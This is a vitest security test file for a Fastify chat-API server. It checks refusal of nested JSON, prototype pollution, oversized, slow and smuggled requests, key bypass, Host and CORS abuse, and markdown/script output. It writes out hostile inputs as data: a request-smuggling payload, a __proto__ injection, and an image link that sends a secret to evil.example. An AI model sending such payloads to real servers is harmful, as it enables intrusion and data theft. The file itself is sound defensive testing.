// Abuse of HTTP itself, keys, names and pages; numbers are those of the list of what went wrong in other servers.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { describe, expect, it } from 'vitest';
import { createServer } from '../../src/server/index.js';
import { abused } from '../support/bystander.js';
import { eventually } from '../support/eventually.js';
import { CHAT, eventsOf, listening, open, post, WORDY } from '../support/serving.js';

/** Sends bytes as they are; resolves with all that comes until the server hangs up. */
async function raw(port: number, text: string, { more }: { more?: string } = {}): Promise<string> {
  const socket = connect(port, '127.0.0.1');
  let got = '';
  socket.on('data', (chunk) => {
    got += chunk;
  });
  socket.on('error', () => {});
  socket.write(text);
  if (more) socket.write(more);
  await once(socket, 'close');
  return got;
}

const HEAD = `POST ${CHAT} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n`;

async function bodyOf(app: FastifyInstance, payload: string, headers: object = {}) {
  const all = { 'content-type': 'application/json', ...headers };
  return app.inject({ method: 'POST', url: CHAT, payload, headers: all });
}

describe('39 JSON', () => {
  it.each([
    ['arrays', '['.repeat(5000)],
    ['objects', '{"a":'.repeat(5000)],
    ['behind a text with brackets', `{"a":"${'['.repeat(500)}\\"","b":${'['.repeat(200)}`],
  ])('that nests deep is refused: %s', async (_, payload) => {
    const { app } = await abused();
    const reply = await bodyOf(app, payload);
    expect([reply.statusCode, reply.json().error.code]).toEqual([400, 'too_deep']);
  });

  it('of too many values is refused', async () => {
    const { app } = await abused();
    const reply = await bodyOf(app, `[${'1,'.repeat(300_000)}1]`);
    expect(reply.json().error.code).toBe('too_many_values');
  });

  it('brackets in a text count for nothing', async () => {
    const { app } = await abused();
    const { status } = await post(app, { user: '[{'.repeat(1000) });
    expect(status).toBe(200);
  });

  it('named __proto__ changes nothing', async () => {
    const { app } = await abused();
    const body =
      '{"__proto__":{"n":99,"polluted":1},"constructor":{"prototype":{"polluted":1}},"messages":[{"role":"user","content":"a"}]}';
    const reply = await bodyOf(app, body);
    expect(reply.statusCode).toBe(200);
    expect(reply.json().choices).toHaveLength(1);
    expect(({} as { polluted?: number }).polluted).toBeUndefined();
  });

  it.each(['', 'nonsense', '"a"', '[]', 'null'])('%j is 400', async (payload) => {
    const { app } = await abused();
    const reply = await bodyOf(app, payload);
    expect(reply.statusCode).toBe(400);
    expect(reply.json().error.type).toBe('invalid_request_error');
  });
});

describe('40 a large body', () => {
  it('is refused by its header, the key is asked for first', async () => {
    const { app } = await abused({ server: { apiKeys: ['right'] } });
    const { port } = await listening(app);
    const length = 'Content-Length: 100000000\r\n\r\n';
    expect(await raw(port, HEAD + length)).toMatch(/^HTTP\/1.1 401/);
    const keyed = `${HEAD}Authorization: Bearer right\r\n${length}`;
    expect(await raw(port, keyed)).toMatch(/^HTTP\/1.1 413/);
  });

  it('that does not say so is refused where it becomes too long', async () => {
    const { app } = await abused({ server: { maxBodyBytes: 1000 } });
    const { port } = await listening(app);
    const chunk = `${(600).toString(16)}\r\n${' '.repeat(600)}\r\n`;
    const head = `${HEAD}Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n`;
    expect(await raw(port, head, { more: chunk.repeat(3) })).toMatch(/^HTTP\/1.1 413/);
  });

  it('counts with all others', async () => {
    const { app } = await abused({ server: { maxTotalBytes: 5000 } });
    const { status, json, headers } = await post(app, { user: 'a'.repeat(6000) });
    expect([status, json.error.code]).toEqual([429, 'queue_full']);
    expect(Number(headers['retry-after'])).toBeGreaterThan(0);
    expect((await post(app, {})).status).toBe(200);
  });
});

it('41 giant headers are 431', async () => {
  const { app } = await abused();
  const { port } = await listening(app);
  const giant = `${HEAD}X-Junk: ${'a'.repeat(100_000)}\r\n\r\n`;
  expect(await raw(port, giant)).toMatch(/^HTTP\/1.1 431/);
});

describe('42 slow', () => {
  it.each([
    ['headers', HEAD],
    ['bodies', `${HEAD}Content-Length: 500\r\n\r\n{`],
  ])('%s are given up', async (_, text) => {
    const { app } = await abused({ server: { headersTimeoutMs: 100, requestTimeoutMs: 200 } });
    const { port } = await listening(app);
    expect(await raw(port, text)).toMatch(/^HTTP\/1.1 408/);
  });
});

describe('43 a reader that takes nothing', () => {
  it('is cut off, and slows nobody', async () => {
    const { app, model } = await abused({ ...WORDY, server: { ...WORDY.server, stallMs: 100 } });
    const { port } = await listening(app);
    const [[socket], slow] = await Promise.all([
      once(app.server, 'connection') as Promise<[Socket]>,
      open(port, { model: undefined, stream: true }).response,
    ]);
    slow.pause();
    const cutOff = expect(once(slow, 'end')).rejects.toThrow('aborted');
    socket.cork(); // as if the system's buffers were full, of which some hold 30 MB
    expect((await post(app, { model: undefined })).status).toBe(200);
    await eventually(() => expect(model.stats().running).toBe(0));
    slow.resume();
    await cutOff;
  });
});

describe('49 a key', () => {
  it.each([
    ['none', {}],
    ['its beginning', { authorization: 'Bearer secre' }],
    ['more than it', { authorization: 'Bearer secrets' }],
    ['another scheme', { authorization: 'Basic secret' }],
    ['none behind the scheme', { authorization: 'Bearer ' }],
    ['in the URL', {}, '?api_key=secret'],
  ])('%s is 401', async (_, headers, query = '') => {
    const { app } = await abused({ server: { apiKeys: ['secret'] } });
    const reply = await app.inject({ url: `/v1/models${query}`, headers });
    expect([reply.statusCode, reply.json().error.code]).toEqual([401, 'invalid_api_key']);
  });

  it.each([
    ['authorization', 'Bearer secret'],
    ['authorization', 'bearer secret'],
    ['x-api-key', 'secret'],
  ])('%s: %s opens', async (name, value) => {
    const { app } = await abused({ server: { apiKeys: ['other', 'secret'] } });
    const reply = await app.inject({ url: '/v1/models', headers: { [name]: value } });
    expect(reply.statusCode).toBe(200);
  });

  it.each([
    '//health/../v1/models',
    '/health/../v1/models',
    '/v1/models?/health',
    '/V1/models',
    '/nothing',
  ])('is needed for %s, whatever Host says', async (url) => {
    const { app } = await abused({ server: { apiKeys: ['secret'], allowHosts: ['*'] } });
    const headers = { host: 'localhost/health' };
    expect((await app.inject({ url, headers })).statusCode).toBe(401);
  });
});

it('50 Bearer and x-api-key that disagree are 401', async () => {
  const { app } = await abused({ server: { apiKeys: ['one', 'two'] } });
  const ask = (key: string) =>
    app.inject({ url: '/v1/models', headers: { authorization: 'Bearer one', 'x-api-key': key } });
  expect((await ask('two')).statusCode).toBe(401);
  expect((await ask('one')).statusCode).toBe(200);
});

describe('52 a name that is not its own', () => {
  it.each([
    ['evil.example', 421],
    ['localhost.evil.example:80', 421],
    ['127.0.0.1.evil.example', 421],
    ['localhost:8080', 200],
    ['LOCALHOST', 200],
    ['127.0.0.1:1', 200],
    ['[::1]:80', 200],
    ['192.168.1.7', 200],
    ['pictures.example', 200],
  ])('%s is %d', async (host, status) => {
    const { app } = await abused({ server: { allowHosts: ['Pictures.example'] } });
    const reply = await app.inject({ url: '/v1/models', headers: { host } });
    expect(reply.statusCode).toBe(status);
  });
});

it('52 a client without any name is none of a browser’s', async () => {
  const { app } = await abused();
  const { port } = await listening(app);
  expect(await raw(port, 'GET /ready HTTP/1.0\r\n\r\n')).toMatch(/^HTTP\/1.1 200/);
  expect(await raw(port, 'HEAD /ready HTTP/1.0\r\n\r\n')).toMatch(/^HTTP\/1.1 200/);
});

describe('53 pages of other sites', () => {
  const origin = 'https://evil.example';

  it('get no leave', async () => {
    const { app } = await abused();
    const { headers, status } = await post(app, {}, { origin });
    expect(status).toBe(200);
    expect(Object.keys(headers).filter((name) => name.startsWith('access-control'))).toEqual([]);
    const asked = await app.inject({ method: 'OPTIONS', url: CHAT, headers: { origin } });
    expect(asked.statusCode).toBe(404);
    expect(asked.headers['access-control-allow-origin']).toBeUndefined();
  });

  it('get it if they are named, and no others', async () => {
    const { app } = await abused({ server: { allowOrigins: ['https://ours.example'] } });
    const ask = (from: string) =>
      app.inject({ method: 'OPTIONS', url: CHAT, headers: { origin: from } });
    const ours = await ask('https://ours.example');
    expect(ours.statusCode).toBe(204);
    expect(ours.headers['access-control-allow-origin']).toBe('https://ours.example');
    expect((await ask(origin)).headers['access-control-allow-origin']).toBeUndefined();
    const stream = await post(app, { stream: true }, { origin: 'https://ours.example' });
    expect(stream.headers['access-control-allow-origin']).toBe('https://ours.example');
  });

  it.each([
    'ours.example',
    'https://ours.example/',
    'https://*.example',
    'HTTPS://ours.example',
    'https://ours.example:443',
  ])('cannot be named %j, as no browser does', async (site) => {
    const { model } = await abused();
    const create = () => createServer(model, { allowOrigins: ['https://fine.example', site] });
    const refusal = { code: 'ERR_INVALID_ARGUMENT', argument: 'allowOrigins', received: site };
    expect(create).toThrow(expect.objectContaining(refusal));
  });

  it.each([
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=a',
    '',
  ])('cannot send %j without being asked', async (type) => {
    const { app, asked } = await abused();
    const payload = JSON.stringify({ messages: [{ role: 'user', content: 'a' }] });
    const reply = await bodyOf(app, payload, { 'content-type': type });
    expect(reply.statusCode).toBe(415);
    expect(asked).toEqual([]);
  });
});

describe('57 Content-Length with Transfer-Encoding', () => {
  it.each([
    'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n',
    'Content-Length: 5\r\nContent-Length: 6\r\n',
    'Transfer-Encoding: chunked, identity\r\n',
  ])('%j is 400', async (headers) => {
    const { app, asked } = await abused();
    const { port } = await listening(app);
    const smuggled = `${HEAD}${headers}\r\n0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n`;
    const got = await raw(port, smuggled);
    expect(got).toMatch(/^HTTP\/1.1 400/);
    expect(got.match(/HTTP\/1.1/g)).toHaveLength(1);
    expect(asked).toEqual([]);
  });
});

it('54 answers are data, not pages', async () => {
  const link = '![x](https://evil.example/?q=secret)<script>alert(1)</script>';
  const { app } = await abused({ fake: { reply: () => link } });
  const { headers, json } = await post(app, {});
  expect(json.choices[0].message.content).toBe(link);
  expect(headers['content-type']).toMatch(/^application\/json/);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toContain("default-src 'none'");
  const events = eventsOf((await post(app, { stream: true })).text);
  expect(events.map(({ choices }) => choices[0].delta.content ?? '').join('')).toBe(link);
});
